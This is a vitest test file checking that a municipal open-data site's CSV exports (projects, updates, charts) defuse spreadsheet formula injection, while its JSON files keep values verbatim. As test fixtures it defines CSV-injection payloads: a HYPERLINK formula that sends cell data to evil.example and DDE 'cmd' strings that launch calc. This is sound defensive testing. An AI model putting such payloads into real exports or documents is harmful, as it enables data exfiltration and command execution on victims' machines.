/**
 * Formula text in content (OWASP's CSV injection) in every CSV the site publishes: the
 * open data's projects.csv and updates.csv and the charts' CSV files get the text made
 * inert, while the JSON files keep it exactly as written.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/charts/index.ts';
import { openDataFiles } from '../../src/data/open-data.ts';
import { programmeCharts } from '../../src/site/chart-models.ts';
import type { SiteModel } from '../../src/model/site.ts';
import { sandbox, type Sandbox } from '../helpers.ts';
import { fixtureModel } from './fixture-model.ts';

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")';
const COMMAND = "+cmd|' /C calc'!A0";
const SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const MINUS = '-2+3+cmd|\' /C calc\'!A0';

let box: Sandbox;
let model: SiteModel;
let files: Map<string, string>;
beforeAll(async () => {
  box = sandbox();
  box.edit('projects/2022/xinyiyuan.md', (t) =>
    t
      .replace('title: 新医院建设', `title: '${HYPERLINK}'`)
      .replace('summary: 在东区湖畔街道新建一所医院。', `summary: "${COMMAND}"`)
      .replace('leadDepartment: 测试市卫生健康局', `leadDepartment: "${SUM}"`)
      .replace('partners: [测试市建设局, 东区人民政府]', `partners: ["${MINUS}", 东区人民政府]`),
  );
  box.edit('districts/xiqu.json', (t) => t.replace('"name": "西区"', '"name": "@西区"'));
  box.edit('updates/2022-09-01-lianliankan.md', (t) => t.replace('title: 市民走进新医院和幼儿园', `title: '${HYPERLINK}'`));
  const fixture = await fixtureModel(box.content);
  model = fixture.model;
  files = new Map(openDataFiles(model, fixture.options).map((f) => [f.path, f.text]));
});
afterAll(() => box.dispose());

const rows = (text: string) => parse(text, { bom: true, columns: (header: string[]) => header.map((h) => h.split(' ')[0]) }) as Record<string, string>[];

describe('formula text in the open data', () => {
  it('reaches projects.csv with a single quote in front, so that a spreadsheet shows it as text', () => {
    const project = rows(files.get('projects.csv')!).find((r) => r.id === '2022/xinyiyuan')!;
    expect(project).toMatchObject({ title: `'${HYPERLINK}`, summary: `'${COMMAND}`, leadDepartment: `'${SUM}`, partners: `'${MINUS}、东区人民政府` });
    // A list is one cell: only its start can make a formula.
    expect(rows(files.get('projects.csv')!).find((r) => r.id === '2023/yanglao')!.districtNames).toBe('湖畔街道、@西区');
    // Numbers stay numbers.
    expect(project).toMatchObject({ budgetAmount: '500000000', progress: '40', lon: '121.05' });
  });

  it('reaches updates.csv with a single quote in front', () => {
    const update = rows(files.get('updates.csv')!).find((r) => r.id === '2022-09-01-lianliankan')!;
    expect(update.title).toBe(`'${HYPERLINK}`);
    expect(update.projectTitles).toBe(`'${HYPERLINK}、西区幼儿园`);
  });

  it('is never a bare formula cell in any CSV line', () => {
    for (const path of ['projects.csv', 'updates.csv']) {
      for (const line of files.get(path)!.replace(/^\uFEFF/, '').split('\r\n')) {
        for (const start of ['=', '+cmd', '@SUM', '-2+3']) expect(line.startsWith(start) || line.includes(`,${start}`) || line.includes(`,"${start}`), `${path}: ${line}`).toBe(false);
      }
    }
  });

  it('stays exactly as written in the JSON files', () => {
    const projects = JSON.parse(files.get('projects.json')!) as { projects: { id: string; fields: Record<string, unknown> }[] };
    expect(projects.projects.find((p) => p.id === '2022/xinyiyuan')!.fields).toMatchObject({ title: HYPERLINK, summary: COMMAND, leadDepartment: SUM, partners: [MINUS, '东区人民政府'] });
    const districts = JSON.parse(files.get('districts.json')!) as { districts: { id: string; fields: { name: string } }[] };
    expect(districts.districts.find((d) => d.id === 'xiqu')!.fields.name).toBe('@西区');
    expect(files.get('updates.json')).toContain(JSON.stringify(HYPERLINK));
  });
});

describe('formula text in the charts’ CSV files', () => {
  it('gets a single quote in front in a chart that lists projects and one that lists places', () => {
    const charts = programmeCharts(model, model.programmes.find((p) => p.data.year === 2022)!, 'zh-Hans');
    const periods = parse(toCsv(charts.periods.model), { bom: true }) as string[][];
    expect(periods.map((row) => row[0])).toContain(`'${HYPERLINK}`);
    const places = parse(toCsv(charts.byDistrict.model), { bom: true }) as string[][];
    expect(places.map((row) => row[0])).toContain("'@西区");
  });
});
